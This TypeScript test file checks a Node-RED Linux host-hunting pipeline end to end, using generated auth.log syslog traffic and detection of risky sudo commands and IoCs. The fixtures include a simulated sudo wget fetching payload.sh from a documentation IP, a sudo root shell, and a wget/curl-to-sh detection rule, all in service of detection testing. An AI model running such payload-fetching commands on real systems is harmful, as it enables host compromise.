// The Linux host hunt end to end on loopback: a real syslog-ng receives
// generated auth.log traffic (ssh logins and failures, su, sudo with risky
// commands, cron, useradd) and forwards it over UDP to a Node-RED `udp in`
// node → secflow-linux-syslog → sessions / risky commands / IoCs → helper
// nodes. Every expected finding must appear exactly once, and nothing errs.
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import iocNode from '../../src/nodes/secflow-ioc';
import linuxSyslog from '../../src/nodes/secflow-linux-syslog';
import sessionsNode from '../../src/nodes/secflow-logon-sessions';
import riskyNode from '../../src/nodes/secflow-risky-commands';
import { collect, helper, loadFlow, unloadFlow, type NodeModule } from '../support/node-harness';
import { startSyslogNg, type SyslogNgHandle } from '../support/syslog-ng';
import { SyslogReceiver } from '../emulators/syslog-receiver';
import { catchNode } from '../support/single-node-flow';

const udpNode: NodeModule = require('@node-red/nodes/core/network/32-udp.js');

type Row = Record<string, unknown>;

async function freeUdpPort(): Promise<number> {
  const socket = dgram.createSocket('udp4');
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', () => resolve()));
  const { port } = socket.address();
  await new Promise<void>((resolve) => socket.close(() => resolve()));
  return port;
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
/** An RFC 3164 timestamp (UTC, as the test machine's syslog-ng keeps the sender's). */
function bsd(ms: number): string {
  const d = new Date(ms);
  const pad = (n: number) => String(n).padStart(2, '0');
  return `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
}

// [seconds offset, PRI, program[pid], message]: authpriv.info = 86, authpriv.notice = 85, cron.info = 78.
const TRAFFIC: Array<[number, number, string, string]> = [
  [0, 86, 'sshd[1001]', 'Failed password for invalid user admin from 203.0.113.50 port 40001 ssh2'],
  [1, 86, 'sshd[1002]', 'Failed password for invalid user admin from 203.0.113.50 port 40002 ssh2'],
  [2, 86, 'sshd[1003]', 'Accepted password for alice from 203.0.113.7 port 50100 ssh2'],
  [2, 86, 'sshd[1003]', 'pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)'],
  [3, 86, 'su[1100]', 'Successful su for root by alice'],
  [3, 86, 'su[1100]', 'pam_unix(su:session): session opened for user root by alice(uid=1000)'],
  [4, 86, 'su[1100]', 'pam_unix(su:session): session closed for user root'],
  [5, 85, 'sudo[1200]', 'alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/wget http://203.0.113.99/payload.sh -O /tmp/payload.sh'],
  [5, 86, 'sudo[1200]', 'pam_unix(sudo:session): session opened for user root by alice(uid=0)'],
  [6, 86, 'sudo[1200]', 'pam_unix(sudo:session): session closed for user root'],
  [7, 85, 'sudo[1201]', 'alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash'],
  [7, 86, 'sudo[1201]', 'pam_unix(sudo:session): session opened for user root by alice(uid=0)'],
  [9, 86, 'sudo[1201]', 'pam_unix(sudo:session): session closed for user root'],
  [10, 78, 'CRON[1300]', '(root) CMD (cd / && run-parts --report /etc/cron.hourly)'],
  [11, 86, 'useradd[1400]', 'new user: name=mallory, UID=1001, GID=1001, home=/home/mallory, shell=/bin/bash, from=/dev/pts/0'],
  [12, 86, 'sshd[1003]', 'pam_unix(sshd:session): session closed for user alice'],
];

describe('live pipeline: syslog-ng → udp in → Linux host hunt', () => {
  let syslogNg: SyslogNgHandle | undefined;
  let nodeRedPort = 0;

  before(async () => {
    nodeRedPort = await freeUdpPort();
    syslogNg = await startSyslogNg({
      sources: [{ protocol: 'udp' }],
      // Forward everything the test source receives to Node-RED (syslog-ng's default BSD template).
      extraConfig: `destination d_nodered { network("127.0.0.1" port(${nodeRedPort}) transport("udp")); };\nlog { source(s_test0); destination(d_nodered); };`,
    });
  });

  after(async () => {
    await unloadFlow();
    await syslogNg?.stop();
  });

  it('every expected finding appears once', async () => {
    await loadFlow(
      [udpNode, linuxSyslog as NodeModule, sessionsNode as NodeModule, riskyNode as NodeModule, iocNode as NodeModule, catchNode],
      [
        { id: 'l-tab', type: 'tab', label: 'live hunt' },
        { id: 'l-udp', type: 'udp in', z: 'l-tab', name: '', iface: '', port: String(nodeRedPort), ipv: 'udp4', multicast: 'false', group: '', datatype: 'utf8', wires: [['l-classify']] },
        { id: 'l-classify', type: 'secflow-linux-syslog', z: 'l-tab', compat: false, wires: [['l-sessions', 'l-risky', 'l-ioc', 'l-classified']] },
        { id: 'l-sessions', type: 'secflow-logon-sessions', z: 'l-tab', mode: 'paired', timeout: 3600, wires: [['l-risky', 'l-session-out']] },
        { id: 'l-risky', type: 'secflow-risky-commands', z: 'l-tab', rules: '', commandField: 'Command', speedEvents: 10, speedSeconds: 5, compat: false, wires: [['l-findings'], ['l-risky-sessions']] },
        { id: 'l-ioc', type: 'secflow-ioc', z: 'l-tab', properties: 'payload', types: '', includePaths: false, strictIpv4: true, split: false, compat: false, wires: [['l-iocs']] },
        { id: 'l-catch', type: 'catch', z: 'l-tab', scope: null, uncaught: false, wires: [['l-caught']] },
        ...['l-classified', 'l-session-out', 'l-findings', 'l-risky-sessions', 'l-iocs', 'l-caught'].map((id) => ({ id, type: 'helper', z: 'l-tab' })),
      ],
    );
    const classified = collect(helper.getNode('l-classified'));
    const sessions = collect(helper.getNode('l-session-out'));
    const findings = collect(helper.getNode('l-findings'));
    const riskySessions = collect(helper.getNode('l-risky-sessions'));
    const iocs = collect(helper.getNode('l-iocs'));
    const caught = collect(helper.getNode('l-caught'));
    // The udp in node binds asynchronously.
    await new Promise((r) => setTimeout(r, 300));

    const base = Date.now() - 60_000;
    const sender = dgram.createSocket('udp4');
    for (const [offset, pri, tag, message] of TRAFFIC) {
      const line = `<${pri}>${bsd(base + offset * 1000)} web01 ${tag}: ${message}`;
      await new Promise<void>((resolve, reject) => sender.send(line, syslogNg!.ports[0], '127.0.0.1', (err) => (err ? reject(err) : resolve())));
      await new Promise((r) => setTimeout(r, 20));
    }
    sender.close();

    await classified.waitFor(TRAFFIC.length, 20_000);
    await sessions.waitFor(4, 10_000);
    await riskySessions.waitFor(3, 10_000);
    await iocs.waitFor(TRAFFIC.length, 10_000);
    // Anything duplicated or unexpected would arrive shortly after.
    await new Promise((r) => setTimeout(r, 500));

    const rows = classified.messages.map((m) => m.payload as Row);
    assert.deepEqual(rows.map((r) => r.SyslogMessage), TRAFFIC.map((t) => t[3]), 'every line once, in order, message text intact');
    assert.ok(rows.every((r) => r.Computer === 'web01'));
    const activity = (a: string) => rows.filter((r) => r.activity === a);
    assert.deepEqual([activity('logon').length, activity('sudo').length, activity('cron').length, activity('account').length], [8, 6, 1, 1]);
    assert.deepEqual(activity('logon').map((r) => r.LogonResult), ['Failure', 'Failure', 'Success', 'Unknown', 'Success', 'Unknown', 'Unknown', 'Unknown']);
    // As the KQL query: User comes from "user X" (or "for X" with publickey), so "Accepted password for alice" has none.
    assert.deepEqual(activity('logon').slice(0, 3).map((r) => [r.User, r.SourceIP, r.SourcePort, r.LogonType]), [['admin', '203.0.113.50', '40001', ''], ['admin', '203.0.113.50', '40002', ''], ['', '203.0.113.7', '50100', 'password (sshd)']]);
    assert.deepEqual(activity('sudo').filter((r) => r.Command).map((r) => [r.CommandCall, r.SudoResult]), [['/usr/bin/wget', 'Success'], ['/bin/bash', 'Success']]);
    assert.equal(activity('cron')[0].CMD, 'cd / && run-parts --report /etc/cron.hourly');
    assert.deepEqual([activity('account')[0].UserGroupAction, activity('account')[0].User, activity('account')[0].UID], ['Add', 'mallory', '1001']);

    const s = sessions.messages.map((m) => m.payload as Row);
    assert.deepEqual(
      s.map((x) => [x.User, x.TargetUser, x.ProcessID, x.Root, x.End === null]),
      [
        ['root', 'root', 1100, true, false],
        ['alice', 'root', 1200, true, false],
        ['alice', 'root', 1201, true, false],
        ['alice', 'alice', 1003, false, false],
      ],
    );
    // alice: the two sudo successes are counted in her first sudo session; the ssh Accepted before it too.
    assert.deepEqual([s[1].Successes, s[1].Failures], [2, 0]);

    const f = findings.messages.map((m) => m.payload as Row);
    assert.deepEqual(f.map((x) => [x.kind, x.command, x.rule]), [
      ['risky', '/usr/bin/wget http://203.0.113.99/payload.sh -O /tmp/payload.sh', '.*(wget|curl).*\\|?.*sh.*'],
      ['risky', '/bin/bash', '.*/bin/bash.*'],
    ]);

    const rs = riskySessions.messages.map((m) => m.payload as Row);
    assert.deepEqual(
      rs.map((x) => [x.ProcessID, x.Risk, (x.RiskyCommands as Row[]).map((c) => c.command)]),
      [
        [1200, '/usr/bin/wget http://203.0.113.99/payload.sh -O /tmp/payload.sh', ['/usr/bin/wget http://203.0.113.99/payload.sh -O /tmp/payload.sh']],
        [1201, '/bin/bash', ['/bin/bash']],
        [1003, '/bin/bash', ['/usr/bin/wget http://203.0.113.99/payload.sh -O /tmp/payload.sh', '/bin/bash']],
      ],
    );

    // IoCs per line: each observable exactly where it was, nothing else.
    const seen = iocs.messages.map((m) => m.iocs as Record<string, string[]>);
    const withIocs = seen.map((x, i) => [i, x] as const).filter(([, x]) => Object.keys(x).length > 0);
    assert.deepEqual(withIocs, [
      [0, { ipv4: ['203.0.113.50'] }],
      [1, { ipv4: ['203.0.113.50'] }],
      [2, { ipv4: ['203.0.113.7'] }],
      [7, { ipv4: ['203.0.113.99'], dns: ['payload.sh'], url: ['http://203.0.113.99/payload.sh'] }],
    ]);
    assert.equal(caught.messages.length, 0, JSON.stringify(caught.messages.map((m) => m.error)));
    assert.deepEqual([classified.messages.length, sessions.messages.length, findings.messages.length, riskySessions.messages.length, iocs.messages.length], [16, 4, 2, 3, 16]);
  });
});

describe('example flow "Hunt a Linux host from syslog"', () => {
  after(async () => {
    await unloadFlow();
  });

  it('runs: demo auth.log traffic → CEF findings and IoCs over TCP syslog, risky sudo sessions to the notification', async () => {
    const file = path.resolve(__dirname, '../../examples/flows/Hunt a Linux host from syslog.json');
    const text = fs.readFileSync(file, 'utf8');
    assert.ok(!/"credentials"\s*:/.test(text), 'no credentials in flow JSON');
    // The sandbox's syslog receiver, on a free port here instead of the example's fixed one.
    const receiver = new SyslogReceiver();
    const { port: syslogOut } = await receiver.listen();
    const received = () => receiver.lines.map((l) => l.line);
    const flow = (JSON.parse(text) as Array<Record<string, unknown>>).map((n) => {
      if (n.type === 'secflow-syslog') return { ...n, port: syslogOut };
      // Debug nodes become helper nodes the test can read.
      if (n.type === 'debug') return { ...n, type: 'helper' };
      return n;
    });
    const ours = ['secflow-linux-syslog', 'secflow-logon-sessions', 'secflow-risky-commands', 'secflow-ioc', 'secflow-cef', 'secflow-syslog', 'secflow-notify', 'secflow-notify-targets'];
    for (const type of new Set(flow.map((n) => String(n.type)).filter((t) => t.startsWith('secflow-')))) assert.ok(ours.includes(type), `unexpected node type ${type}`);
    const modules = ours.map((t) => (require(`../../src/nodes/${t}`) as { default: NodeModule }).default);
    const core = ['function/10-function.js', 'common/20-inject.js', 'common/90-comment.js', 'common/25-catch.js'].map((p) => require(`@node-red/nodes/core/${p}`) as NodeModule);
    try {
      await loadFlow([...modules, ...core], flow as never);
      const id = (suffix: string) => `secflow-ex-lxhunt-${suffix}`;
      const errors = collect(helper.getNode(id('dbg-errors')));
      const sessions = collect(helper.getNode(id('dbg-sessions')));
      const risky = collect(helper.getNode(id('dbg-risky-sessions')));
      await new Promise((r) => setTimeout(r, 300));
      helper.getNode(id('inj')).receive({ payload: Date.now() });
      await risky.waitFor(3, 15_000);
      await sessions.waitFor(4, 5_000);
      const deadline = Date.now() + 10_000;
      while (received().filter((l) => l.includes('CEF:0|secflow|Linux host hunting|')).length < 9 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
      const cef = received().filter((l) => l.includes('CEF:0|secflow|Linux host hunting|'));
      // Two risky commands, and the IoCs of the demo lines: 203.0.113.50 (twice), 203.0.113.7, the wget URL, its host and file name.
      assert.equal(cef.filter((l) => l.includes('|LX100|Risky command|')).length, 2);
      assert.ok(cef.some((l) => l.includes('|LX200|URL|') && l.includes('cs2=http://malware.example.com/payload.sh')));
      assert.ok(cef.some((l) => l.includes('|LX200|DNS name|') && l.includes('cs2=malware.example.com')));
      assert.equal(cef.filter((l) => l.includes('|LX200|IPv4 address|')).length, 3);
      assert.deepEqual(risky.messages.map((m) => (m.payload as Record<string, unknown>).ProcessID), [2200, 2201, 2003]);
      // Without pasted URLs the notification has no target; that must not be an error of the hunt.
      assert.deepEqual(errors.messages.filter((m) => !/target/i.test(String((m.error as { message?: string })?.message))), []);
      assert.equal(receiver.received.udp, 0, 'syslog over TCP only');
    } finally {
      await receiver.close();
    }
  });
});
